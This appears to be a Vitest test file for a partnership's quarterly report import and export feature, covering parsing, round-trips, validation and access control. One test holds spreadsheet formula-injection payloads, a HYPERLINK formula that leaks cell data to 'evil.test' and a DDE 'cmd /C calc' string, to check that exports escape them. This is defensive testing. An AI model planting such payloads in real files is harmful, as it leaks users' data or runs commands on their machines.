// Importing reports in the partnership's document layout, and writing them back.
import { readFileSync } from "node:fs";
import { hashPassword } from "@quarterly-returns/db";
import { writtenFigurePattern, type Report } from "@quarterly-returns/shared";
import { parseReportDocument } from "@quarterly-returns/shared/report-document";
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { as, buildTestApp, fingerprint, signIn, type TestApp } from "./helper.ts";

const seed = readFileSync(new URL("../../../prisma/stockton-ssp-2019-20-q3.tsv", import.meta.url), "utf8");
const row = (...cells: string[]) => cells.join("\t");

let test: TestApp;
let admin: ReturnType<typeof as>;

beforeAll(async () => {
  test = await buildTestApp("empty");
  await test.db.prisma.user.create({ data: { email: "admin@example.org", name: "Ada Admin", role: "ADMIN", passwordHash: await hashPassword("a good passphrase") } });
  admin = as(test.app, await signIn(test.app, "admin@example.org", "a good passphrase"));
});
afterAll(() => test.close());

const importText = (text: string, year = "2019/20") => admin.post("/api/reports/import", { year, text });

describe("importing the partnership's 2019/20 report into an empty database", () => {
  it("creates the year, priorities, owners, the 22 indicator lines and their quarter updates", async () => {
    const response = await importText(seed);
    expect(response.statusCode).toBe(200);
    const summary = response.json().summary;
    expect(summary).toMatchObject({ year: "2019/20", prioritiesCreated: 4, indicatorsCreated: 22, returnsUnchanged: 0 });
    expect(summary.organisationsCreated).toEqual([
      "Cleveland Police IOM Unit", "DTV Community Rehabilitation Company", "SBC Youth Offending Team", "Office of PCC",
      "SBC Community Protection Services", "Cleveland Police", "SBC Public Health", "Cleveland Fire Brigade",
    ]);
    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2019/20" } });
    expect(year.planYear).toBe(3);

    const states = async (title: string) =>
      (await test.db.prisma.return.findMany({ where: { indicator: { title } }, include: { quarter: true, values: true }, orderBy: { quarter: { number: "asc" } } })).map(
        (found) => `${found.status}${found.noDataReason ? ` ${found.noDataReason}` : ""}${found.values[0]?.number ? ` ${found.values[0].number}` : ""}`,
      );
    expect(await states("% of positive completions of Community Orders and Suspended Sentence orders")).toEqual([
      "SUBMITTED 72.6", "NO_DATA NOT_YET_AVAILABLE", "SUBMITTED 74.6",
    ]);
    expect(await states("Monitor the number of ASB repeat callers to SBC")).toEqual(["SUBMITTED 3", "SUBMITTED 2", "SUBMITTED 1"]);
    expect(await states("Reduction in youth offending")).toEqual(["NO_DATA NOT_RELEASED", "NO_DATA NOT_RELEASED", "SUBMITTED"]);
    const cps = await test.db.prisma.indicator.findFirstOrThrow({ where: { ref: "2.1" }, include: { ownerOrganisation: true } });
    expect({ owner: cps.ownerOrganisation.name, lead: cps.leadContact }).toEqual({ owner: "SBC Community Protection Services", lead: "Manager" });
    expect((await test.db.prisma.indicator.findFirstOrThrow({ where: { ref: "4.1" } })).restricted).toBe(true);
  });

  it("writes it back: the .tsv export reproduces every non-empty Q1–Q3 cell of the document", async () => {
    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2019/20" } });
    const exported = await admin.get(`/api/reports/${year.id}.tsv`);
    expect(exported.headers["content-type"]).toBe("text/tab-separated-values; charset=utf-8");
    const original = parseReportDocument(seed).priorities.flatMap((priority) => priority.lines);
    const written = parseReportDocument(exported.body).priorities.flatMap((priority) => priority.lines);
    expect(written.map((line) => [line.ref, line.title])).toEqual(original.map((line) => [line.ref, line.title]));
    let compared = 0;
    original.forEach((line, index) => {
      for (const quarter of [0, 1, 2]) {
        if (!line.quarters[quarter]) continue;
        expect(written[index]!.quarters[quarter], `${line.ref} "${line.title.slice(0, 30)}" Q${quarter + 1}`).toBe(line.quarters[quarter]);
        compared++;
      }
    });
    expect(compared).toBe(66);
  });

  it("prints the document's own no-data words: 3.2 and 3.4 say “No update provided” in the report, its XLSX and CSV", async () => {
    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2019/20" } });
    const report = (await admin.get(`/api/reports/${year.id}`)).json() as Report;
    const lines = report.priorities.flatMap((priority) => priority.lines);
    const opiates = lines.filter((line) => line.title.startsWith("% of successful completions of those in drug treatment"));
    for (const line of [lines.find((candidate) => candidate.ref === "3.2")!, ...opiates]) {
      expect(line.cells.slice(1, 3), `${line.ref} ${line.title.slice(0, 40)}`).toEqual(["No update provided", "No update provided"]);
    }
    const saved = await test.db.prisma.return.findFirstOrThrow({ where: { indicator: { ref: "3.2" }, quarter: { number: 2 } } });
    expect({ status: saved.status, reason: saved.noDataReason, explanation: saved.explanation }).toEqual({ status: "NO_DATA", reason: "NOT_PROVIDED", explanation: "No update provided" });

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await admin.get(`/api/reports/${year.id}.xlsx`)).rawPayload as unknown as ArrayBuffer);
    const q2 = new Map<unknown, unknown>();
    workbook.getWorksheet("Priority 3")!.eachRow((row) => q2.set(row.getCell(1).value, row.getCell(5).value));
    expect(q2.get("3.2")).toBe("No update provided");
    expect(q2.get("3.4")).toBe("No update provided");

    const rows = parse((await admin.get(`/api/reports/${year.id}.csv`)).body, { columns: true }) as Record<string, string>[];
    for (const ref of ["3.2", "3.4"]) {
      const q2Rows = rows.filter((candidate) => candidate.Ref === ref && candidate.Quarter === "Q2");
      expect(q2Rows.length, `${ref} Q2 in the CSV`).toBeGreaterThan(0);
      expect(q2Rows.some((candidate) => Object.values(candidate).includes("No update provided")), `${ref} Q2 in the CSV`).toBe(true);
    }
  });

  it("states 2.2's and 2.4's figures once in each cell", async () => {
    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2019/20" } });
    const report = (await admin.get(`/api/reports/${year.id}`)).json() as Report;
    const cells = (ref: string) => report.priorities.flatMap((priority) => priority.lines).find((line) => line.ref === ref)!.cells;
    const timesStated = (text: string, figure: string) => text.match(writtenFigurePattern(figure))?.length ?? 0;
    expect(cells("2.2").slice(0, 3).map((cell, index) => timesStated(cell, ["47.0", "43.5", "44.7"][index]!))).toEqual([1, 1, 1]);
    expect(cells("2.4").slice(0, 3).map((cell, index) => timesStated(cell, ["67", "137", "195"][index]!))).toEqual([1, 1, 1]);
  });

  it("is idempotent: importing it again changes nothing", async () => {
    const before = await fingerprint(test.db);
    const again = await importText(seed);
    expect(again.json().summary).toMatchObject({ prioritiesCreated: 0, prioritiesUpdated: 0, indicatorsCreated: 0, indicatorsUpdated: 0, returnsWritten: 0, returnsUnchanged: 66 });
    const after = await fingerprint(test.db);
    const withoutAudit = (digest: string) => digest.replace(/audit_events:\S+/, "");
    expect(withoutAudit(after)).toBe(withoutAudit(before));
  });
});

describe("reports from other years and partnerships", () => {
  it("reads variations of the layout: CRLF, blank lines, quotes, short rows, other refs and owners", async () => {
    const text = [
      row("Year 1 - April 2021 to March 2022"),
      "",
      row("Priority 1", "TACKLING SERIOUS VIOLENCE"),
      row("Outcome", "Fewer victims of knife crime"),
      row("REF", "ACTIVITIES", "DATA COLLATION", "Q1", "Q2", "Q3", "Q4", "TREND"),
      row("A1", "Knife crime offences", "Durham Constabulary - Pat Jones", "41", "38"),
      row("", "Knife crime arrests", "", "12"),
      row("A2", '"Work with schools, ""safe streets"" programme"', "Darlington Borough Council", '"Sessions held in 5 schools; ""very well"" received"'),
      "",
      "",
      row("Priority 2"),
      row("HEALTHY TOWNS"),
      row("Outcome"),
      row("Better outcomes"),
      row("Ref", "Activities", "Data collation", "Quarter 1", "Quarter 2", "Quarter 3", "Quarter 4", "Trend"),
      row("B1 RESTRICTED", "Drug-related deaths", "Durham Constabulary", "No data available until 15/8/2021", "4.5%"),
    ].join("\r\n");
    const response = await importText(text, "2021/22");
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json().summary).toMatchObject({ prioritiesCreated: 2, indicatorsCreated: 4, organisationsCreated: ["Durham Constabulary", "Darlington Borough Council"] });

    const indicators = await test.db.prisma.indicator.findMany({
      where: { priority: { year: { label: "2021/22" } } },
      include: { fields: true, returns: { include: { values: true, quarter: true } }, ownerOrganisation: true },
      orderBy: [{ priority: { number: "asc" } }, { sortOrder: "asc" }],
    });
    expect(indicators.map((indicator) => [indicator.ref, indicator.title, indicator.ownerOrganisation.name, indicator.leadContact, indicator.restricted])).toEqual([
      ["A1", "Knife crime offences", "Durham Constabulary", "Pat Jones", false],
      [null, "Knife crime arrests", "Durham Constabulary", "Pat Jones", false],
      ["A2", 'Work with schools, "safe streets" programme', "Darlington Borough Council", null, false],
      ["B1", "Drug-related deaths", "Durham Constabulary", null, true],
    ]);
    expect(indicators[0]!.fields.map((field) => field.kind)).toEqual(["COUNT"]);
    expect(indicators[2]!.returns[0]!.commentary).toBe('Sessions held in 5 schools; "very well" received');
    expect(indicators[3]!.returns.map((found) => `${found.quarter.number}:${found.status}:${found.availableFrom?.toISOString().slice(0, 10) ?? found.values[0]?.number}`)).toEqual([
      "1:NO_DATA:2021-08-15",
      "2:SUBMITTED:4.5",
    ]);
  });

  it("reads a period in brackets after a figure as the period it covers, and writes it back", async () => {
    const text = [
      row("Year 1 - April 2012 to March 2013"),
      row("Priority 1", "Reducing reoffending"),
      row("Outcome", "Fewer people reoffend"),
      row("Ref", "Activities", "Data collation", "Q1", "Q2", "Q3", "Q4", "Trend"),
      row("R1", "Proven reoffending rate", "Probation Service", "8.77% (12m to Sept 12)", "9.1% (12 months ending December 2012)", "8.9%"),
      row("R2", "Successful completions", "Probation Service", "20.13% (baseline 28.3%)", "21%"),
    ].join("\n");
    const imported = await importText(text, "2012/13");
    expect(imported.statusCode, imported.body).toBe(200);
    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2012/13" } });
    const returns = await test.db.prisma.return.findMany({
      where: { quarter: { yearId: year.id } },
      include: { values: true, indicator: true, quarter: true },
      orderBy: [{ indicatorId: "asc" }, { quarterId: "asc" }],
    });
    expect(returns.map((found) => `${found.indicator.ref} Q${found.quarter.number}: ${found.values[0]?.number ?? found.commentary} | ${found.periodCovered}`)).toEqual([
      "R1 Q1: 8.77 | 12m to Sept 12",
      "R1 Q2: 9.1 | 12 months ending December 2012",
      // A figure that names no period of its own: the indicator's period is as each cell states.
      "R1 Q3: 8.9 | null",
      // "baseline" is not a period: the cell stays as the document wrote it.
      "R2 Q1: 20.13% (baseline 28.3%) | null",
      // "21%" would be written back "21.0%": commentary too, so the document reads the same.
      "R2 Q2: 21% | null",
    ]);
    expect(returns[0]!.indicator.periodBasis).toBe("AS_STATED");

    const exported = (await admin.get(`/api/reports/${year.id}.tsv`)).body;
    expect(exported.split("\n").find((line) => line.startsWith("R1\t"))!.split("\t").slice(3, 6)).toEqual(["8.77% (12m to Sept 12)", "9.1% (12 months ending December 2012)", "8.9%"]);
    const again = await importText(exported, "2012/13");
    expect(again.json().summary).toMatchObject({ returnsWritten: 0, returnsUnchanged: 5 });
  });

  it("stores a figure on a cell's first line as the figure and the lines after it as its words, stating it once", async () => {
    const text = [
      row("Year 1 - April 2013 to March 2014"),
      row("Priority 1", "Reducing reoffending"),
      row("Outcome", "Fewer people reoffend"),
      row("Ref", "Activities", "Data collation", "Q1", "Q2", "Q3", "Q4", "Trend"),
      row("R1", "Repeat incident rate", "Probation Service", '"31.5% (rolling 12 months)\nDown on last year"', '"32.0%\nThe rate was 32.0% last quarter too"', "30.5%"),
    ].join("\n");
    const imported = await importText(text, "2013/14");
    expect(imported.statusCode, imported.body).toBe(200);
    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2013/14" } });
    const returns = await test.db.prisma.return.findMany({ where: { quarter: { yearId: year.id } }, include: { values: true, quarter: true }, orderBy: { quarterId: "asc" } });
    expect(returns.map((found) => ({ figure: found.values[0]?.number?.toString() ?? null, period: found.periodCovered, commentary: found.commentary }))).toEqual([
      { figure: "31.5", period: "rolling 12 months", commentary: "Down on last year" },
      // Its words restate the figure: left out of them, the report would not read as the document, so the cell stays words.
      { figure: null, period: null, commentary: "32.0%\nThe rate was 32.0% last quarter too" },
      { figure: "30.5", period: expect.anything(), commentary: null },
    ]);
    const report = (await admin.get(`/api/reports/${year.id}`)).json() as Report;
    const cells = report.priorities[0]!.lines[0]!.cells;
    expect(cells[0]).toBe("31.5% (rolling 12 months)\nDown on last year");
    expect(cells[0]!.match(writtenFigurePattern("31.5"))).toHaveLength(1);

    const again = await importText((await admin.get(`/api/reports/${year.id}.tsv`)).body, "2013/14");
    expect(again.json().summary).toMatchObject({ returnsWritten: 0, returnsUnchanged: 3 });
  });

  it("keeps text that looks like a formula through export and import: the TSV escapes it, the import takes the apostrophe off", async () => {
    const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
    const DDE = "+cmd|' /C calc'!A0";
    const text = [
      row("Year 6 - April 2024 to March 2025"),
      row("Priority 1", "-- SAFER NIGHT-TIME ECONOMY --"),
      row("Outcome", "@ every venue: fewer assaults"),
      row("Ref", "Activities", "Data collation", "Q1", "Q2", "Q3", "Q4", "Trend"),
      row("N1", "Assaults in the night-time economy", "Durham Constabulary", HYPERLINK, DDE, "@SUM(A1:A9)", "'=already an apostrophe"),
      row("", "", "", "A first paragraph", "", "", "-a bullet"),
      row("", "", "", "=1+1 on a second paragraph"),
      row("N2", "Change in repeat victims", "Durham Constabulary", "-3", "-1.5", "-3 compared to Q1"),
      row("N3", "Change in the rate", "Durham Constabulary", "-2.5%", "4.0%"),
    ].join("\n");
    const imported = await importText(text, "2024/25");
    expect(imported.statusCode, imported.body).toBe(200);
    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2024/25" } });
    const stored = async () =>
      (await test.db.prisma.return.findMany({ where: { quarter: { yearId: year.id } }, include: { values: true, indicator: true, quarter: true }, orderBy: [{ indicatorId: "asc" }, { quarterId: "asc" }] })).map(
        (found) => `${found.indicator.ref} Q${found.quarter.number}: ${found.values[0]?.number ?? found.commentary}`,
      );
    const before = await stored();
    expect(before).toEqual([
      `N1 Q1: ${HYPERLINK}\nA first paragraph\n=1+1 on a second paragraph`,
      `N1 Q2: ${DDE}`,
      "N1 Q3: @SUM(A1:A9)",
      // A spreadsheet's own mark for "this is text" is read as such.
      "N1 Q4: =already an apostrophe\n-a bullet",
      "N2 Q1: -3",
      "N2 Q2: -1.5",
      "N2 Q3: -3 compared to Q1",
      "N3 Q1: -2.5%",
      "N3 Q2: 4",
    ]);

    const exported = (await admin.get(`/api/reports/${year.id}.tsv`)).body;
    const cells = exported.split("\n").map((line) => line.split("\t"));
    expect(cells.find((line) => line[0] === "Priority 1")![1]).toBe("'-- SAFER NIGHT-TIME ECONOMY --");
    expect(cells.find((line) => line[0] === "N1")!.slice(3, 7)).toEqual([`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`, `'${DDE}`, "'@SUM(A1:A9)", "'=already an apostrophe"]);
    expect(cells.find((line) => line[0] === "N2")!.slice(3, 6)).toEqual(["-3", "-1.5", "'-3 compared to Q1"]);
    expect(cells.find((line) => line[0] === "N3")!.slice(3, 5)).toEqual(["-2.5%", "4.0%"]);
    expect(exported).toContain("\t'=1+1 on a second paragraph\t");

    const again = await importText(exported, "2024/25");
    expect(again.json().summary).toMatchObject({ prioritiesUpdated: 0, indicatorsUpdated: 0, returnsWritten: 0, returnsUnchanged: 9 });
    expect(await stored()).toEqual(before);
    const priority = await test.db.prisma.priority.findFirstOrThrow({ where: { yearId: year.id } });
    expect([priority.title, priority.outcome]).toEqual(["-- SAFER NIGHT-TIME ECONOMY --", "@ every venue: fewer assaults"]);
  });

  it("refuses a malformed file with the line of every problem, and imports nothing", async () => {
    const before = await fingerprint(test.db);
    const text = [
      row("Some heading"),
      row("1.1", "An indicator before any priority", "Owner"),
      row("Priority 1", "A priority"),
      row("Outcome", "An outcome"),
      row("1.2", "A row before the header row", "Owner"),
      row("Ref", "Activities", "Data collation", "Q1", "Q2", "Q3", "Q4", "Trend"),
      row("", "", "", "text that continues nothing"),
      row("1.3", "", "Owner", "1"),
      row("1.4", "Too wide", "Owner", "1", "2", "3", "4", "—", "extra"),
      row("Priority one", "Not a number"),
    ].join("\n");
    const response = await importText(text, "2022/23");
    expect(response.statusCode).toBe(400);
    expect(response.json().problems).toEqual([
      { line: 2, problem: "a table row before any Priority heading" },
      { line: 5, problem: "a row before the header row of Priority 1's table (Ref, activities, data collation, quarters)" },
      { line: 7, problem: "quarter text that continues no indicator" },
      { line: 8, problem: "indicator 1.3 has no activity" },
      { line: 9, problem: "9 columns where the report has 8 (Ref, activity, data collation, four quarters, trend)" },
      { line: 10, problem: '"Priority one" is not a priority number' },
    ]);
    expect(response.json().message).toMatch(/^Nothing was imported:\n {2}line 2: /);
    expect(await fingerprint(test.db)).toBe(before);
    expect(await test.db.prisma.reportingYear.findUnique({ where: { label: "2022/23" } })).toBeNull();
  });

  it("refuses changes to a signed-off quarter, naming the line, and imports nothing", async () => {
    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2021/22" }, include: { quarters: true } });
    const q1 = year.quarters.find((quarter) => quarter.number === 1)!;
    const adminUser = await test.db.prisma.user.findFirstOrThrow();
    await test.db.prisma.quarter.update({ where: { id: q1.id }, data: { status: "CLOSED", signedOffAt: new Date(), signedOffById: adminUser.id } });
    const changed = [
      row("Priority 1", "TACKLING SERIOUS VIOLENCE"),
      row("Outcome", "Fewer victims of knife crime"),
      row("Ref", "Activities", "Data collation", "Q1", "Q2", "Q3", "Q4", "Trend"),
      row("A1", "Knife crime offences", "Durham Constabulary - Pat Jones", "44", "39"),
    ].join("\n");
    const before = await fingerprint(test.db);
    const response = await importText(changed, "2021/22");
    expect(response.statusCode).toBe(400);
    expect(response.json().problems).toEqual([
      { line: 4, problem: expect.stringMatching(/^A1 in Q1 2021\/22 would read “44”: Q1 2021\/22 was signed off on .+ by Ada Admin; its returns can no longer be changed\.$/) },
    ]);
    expect(await fingerprint(test.db)).toBe(before);
  });

  it("is for admins only", async () => {
    const manager = await test.db.prisma.user.create({ data: { email: "m@example.org", name: "M", role: "MANAGER", passwordHash: await hashPassword("a good passphrase") } });
    const response = await as(test.app, await signIn(test.app, manager.email, "a good passphrase")).post("/api/reports/import", { year: "2019/20", text: seed });
    expect(response.statusCode).toBe(403);
  });
});
